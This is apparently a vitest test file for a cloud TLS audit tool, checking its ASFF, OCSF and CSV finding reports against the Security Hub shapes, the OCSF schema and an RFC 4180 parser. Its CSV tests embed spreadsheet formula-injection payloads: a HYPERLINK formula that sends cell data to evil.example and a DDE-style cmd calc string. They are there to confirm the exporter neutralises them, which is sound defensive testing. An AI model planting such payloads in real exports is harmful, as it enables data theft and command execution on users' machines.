/**
 * ASFF, OCSF and CSV from the demo estate through the real pipeline, each checked by an independent
 * authority: ASFF against the Security Hub API model (AwsSecurityFinding shapes from botocore), OCSF
 * against the Compliance Finding class compiled from the OCSF 1.5.0 definitions (ajv, draft 2020-12),
 * CSV by an RFC 4180 parser written here from the grammar, plus the formula-injection guard.
 */
import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { Ajv2020 } from 'ajv/dist/2020.js';
import { beforeAll, describe, expect, it } from 'vitest';
import { audit, type AuditOutcome } from '../../src/audit.ts';
import { demoSnapshot, demoTrustAnchors, withDemoCollectionGap } from '../../src/demo/estate.ts';
import type { Finding } from '../../src/model/finding.ts';
import { asffReporter, asffResourceType, toAsff } from '../../src/report/asff.ts';
import { csvField, csvReporter, CSV_COLUMNS } from '../../src/report/csv.ts';
import { ocsfReporter } from '../../src/report/ocsf.ts';
import type { ReportInput } from '../../src/report/reporter.ts';
import { validateShape, type ShapeModel } from '../helpers/api-shapes.ts';

const FIXTURES = resolve(import.meta.dirname, '..', 'fixtures');
const shapes = JSON.parse(readFileSync(resolve(FIXTURES, 'asff/securityhub-2018-10-26.shapes.json'), 'utf8')) as ShapeModel;
const ocsfSchema = JSON.parse(readFileSync(resolve(FIXTURES, 'ocsf/compliance_finding-1.5.0.schema.json'), 'utf8')) as object;

let outcome: AuditOutcome;
let input: ReportInput;

/** A hostile finding: every string a spreadsheet or a parser could trip on, in names that come from AWS. */
function hostile(base: Finding): Finding {
  return {
    ...base,
    message: '=HYPERLINK("http://evil.example/?"&A1,"click"), "quoted"\r\nsecond line',
    resource: { ...base.resource, name: '@SUM(1+1)*cmd|\' /C calc\'!A0', arn: '-2+3' },
  };
}

/** RFC 4180 records: fields split on commas, quoted fields may hold commas, CRLF and doubled quotes. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i] ?? '';
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { field += '"'; i += 2; continue; }
      if (c === '"') { quoted = false; i++; continue; }
      field += c; i++; continue;
    }
    if (c === '"') {
      if (field !== '') throw new Error(`quote inside an unquoted field at ${i}`);
      quoted = true; i++; continue;
    }
    if (c === ',') { record.push(field); field = ''; i++; continue; }
    if (c === '\r' && text[i + 1] === '\n') { record.push(field); records.push(record); record = []; field = ''; i += 2; continue; }
    if (c === '\n' || c === '\r') throw new Error(`bare line break at ${i}`);
    field += c; i++;
  }
  if (quoted) throw new Error('unterminated quoted field');
  if (field !== '' || record.length > 0) throw new Error('last record not ended by CRLF');
  return records;
}

beforeAll(async () => {
  // The demo's simulated AccessDenied makes error findings too, so every status is covered.
  const snapshot = withDemoCollectionGap(demoSnapshot());
  outcome = await audit({ source: { kind: 'snapshot', snapshot }, probe: false, profile: 'default', allowPartial: true, failOn: 'none', trustAnchorsPem: demoTrustAnchors() });
  input = { result: outcome.result, snapshot: outcome.snapshot, facts: outcome.facts, rules: outcome.rules, options: { sarifCategory: 'elb-tls-audit' } };
});

describe('ASFF', () => {
  it('every finding is an AwsSecurityFinding by the Security Hub API model, with the fields Security Hub requires', () => {
    const findings = JSON.parse(asffReporter.render(input)) as unknown[];
    const triaged = outcome.result.findings.filter((f) => f.status === 'fail' || f.status === 'error' || f.status === 'waived');
    expect(findings).toHaveLength(triaged.length);
    const problems = findings.flatMap((f, i) => validateShape(shapes, f, shapes.root, `$[${i}]`));
    expect(problems).toEqual([]);
    for (const f of findings as Record<string, any>[]) {
      expect(f['SchemaVersion']).toBe('2018-10-08');
      expect(f['ProductArn']).toMatch(/^arn:aws:securityhub:[a-z]{2}(-[a-z]+)+-\d:\d{12}:product\/\d{12}\/default$/);
      expect(f['AwsAccountId']).toMatch(/^\d{12}$/);
      expect(f['Types'].length).toBeGreaterThan(0);
      for (const t of f['Types']) expect(t).toMatch(/^Software and Configuration Checks\/[^/]+\/[^/]+$/);
    }
  });

  it('Ids are stable per finding identity and unique; types, severity and compliance follow the finding', () => {
    const a = toAsff(outcome.result, outcome.rules);
    const b = toAsff(outcome.result, outcome.rules);
    expect(a.map((f) => f.Id)).toEqual(b.map((f) => f.Id));
    expect(new Set(a.map((f) => f.Id)).size).toBe(a.length);
    const failing = outcome.result.findings.find((f) => f.status === 'fail' && f.severity === 'critical');
    const asff = a.find((f) => f.ProductFields['elb-tls-audit/Fingerprint'] === failing?.fingerprint);
    expect(asff).toMatchObject({ Severity: { Label: 'CRITICAL', Normalized: 90 }, Compliance: { Status: 'FAILED' }, RecordState: 'ACTIVE', Workflow: { Status: 'NEW' } });
    const error = a.find((f) => f.ProductFields['elb-tls-audit/Status'] === 'error');
    expect(error?.Compliance.Status).toBe('NOT_AVAILABLE');
    // Controls become requirements, and FSBP / PCI DSS also their Security Hub standards.
    const pci = a.find((f) => f.Compliance.RelatedRequirements?.some((r) => r.startsWith('PCI DSS v4.0/')));
    expect(pci?.Compliance.AssociatedStandards).toContainEqual({ StandardsId: 'standards/pci-dss/v/4.0.1' });
    const types = new Set(a.flatMap((f) => f.Resources.map((r) => r.Type)));
    for (const t of types) expect(['AwsElbLoadBalancer', 'AwsElbv2LoadBalancer', 'AwsCertificateManagerCertificate', 'AwsIamServerCertificate', 'Other']).toContain(t);
    expect(types).toContain('AwsElbLoadBalancer');
    expect(types).toContain('AwsElbv2LoadBalancer');
  });

  it('types resources as Security Hub expects', () => {
    const r = (kind: Finding['resource']['kind'], arn: string, loadBalancerType: string | null = null) => asffResourceType({ resource: { kind, arn, loadBalancerType, name: 'x', region: 'eu-west-1', account: '1', loadBalancerArn: null } });
    expect(r('loadBalancer', 'arn:aws:elasticloadbalancing:eu-west-1:1:loadbalancer/legacy', 'classic')).toBe('AwsElbLoadBalancer');
    expect(r('loadBalancer', 'arn:aws:elasticloadbalancing:eu-west-1:1:loadbalancer/net/n/1', 'network')).toBe('AwsElbv2LoadBalancer');
    expect(r('certificate', 'arn:aws:acm:eu-west-1:1:certificate/c')).toBe('AwsCertificateManagerCertificate');
    expect(r('certificate', 'arn:aws:iam::1:server-certificate/c')).toBe('AwsIamServerCertificate');
    expect(r('hsmCluster', 'arn:aws:cloudhsm:eu-west-1:1:cluster/c')).toBe('Other');
  });
});

describe('OCSF', () => {
  it('every line is a Compliance Finding (class 2003) valid against the OCSF 1.5.0 schema', () => {
    const ajv = new Ajv2020({ allErrors: true, strict: false });
    const validate = ajv.compile(ocsfSchema);
    const lines = ocsfReporter.render(input).split('\n');
    expect(lines.pop()).toBe('');
    expect(lines).toHaveLength(outcome.result.findings.length);
    const errors: unknown[] = [];
    for (const line of lines) {
      const event = JSON.parse(line) as { class_uid: number; finding_info?: { uid?: string } };
      const uid = event.finding_info?.uid;
      if (!validate(event)) errors.push({ uid, errors: validate.errors });
      expect(event.class_uid).toBe(2003);
    }
    expect(errors).toEqual([]);
  });

  it('the vendored schema rejects what is not OCSF (it is not a schema that passes anything)', () => {
    const validate = new Ajv2020({ strict: false }).compile(ocsfSchema);
    const event = JSON.parse(ocsfReporter.render(input).split('\n')[0] ?? '{}') as Record<string, any>;
    expect(validate({ ...event, class_uid: 2001 })).toBe(false);
    expect(validate({ ...event, compliance: { ...event['compliance'], status_id: 7 } })).toBe(false);
    const { finding_info: _dropped, ...withoutInfo } = event;
    expect(validate(withoutInfo)).toBe(false);
    expect(validate({ ...event, severity_id: 'high' })).toBe(false);
  });
});

describe('CSV', () => {
  it('is RFC 4180: a header and one record per finding, every record as wide as the header', () => {
    const records = parseCsv(csvReporter.render(input));
    expect(records[0]).toEqual([...CSV_COLUMNS]);
    expect(records).toHaveLength(outcome.result.findings.length + 1);
    for (const r of records) expect(r).toHaveLength(CSV_COLUMNS.length);
    const first = outcome.result.findings[0];
    expect(records[1]?.slice(0, 3)).toEqual([first?.severity, first?.status, first?.ruleId]);
  });

  it('a cell from AWS that starts a formula is neutralised, and commas, quotes and line breaks survive a round trip', () => {
    const base = outcome.result.findings[0] as Finding;
    const text = csvReporter.render({ ...input, result: { ...outcome.result, findings: [hostile(base)] } });
    const [header, row] = parseCsv(text);
    const cell = (name: string) => row?.[header?.indexOf(name) ?? -1];
    expect(cell('message')).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"click"), "quoted"\r\nsecond line');
    expect(cell('resource_name')).toBe('\'@SUM(1+1)*cmd|\' /C calc\'!A0');
    expect(cell('resource_arn')).toBe("'-2+3");
    for (const value of row ?? []) expect(value).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('csvField quotes only when needed and doubles quotes', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('+1')).toBe("'+1");
    expect(csvField('\tcmd')).toBe("'\tcmd");
    expect(csvField(-1)).toBe('-1');
    expect(csvField(null)).toBe('');
  });
});
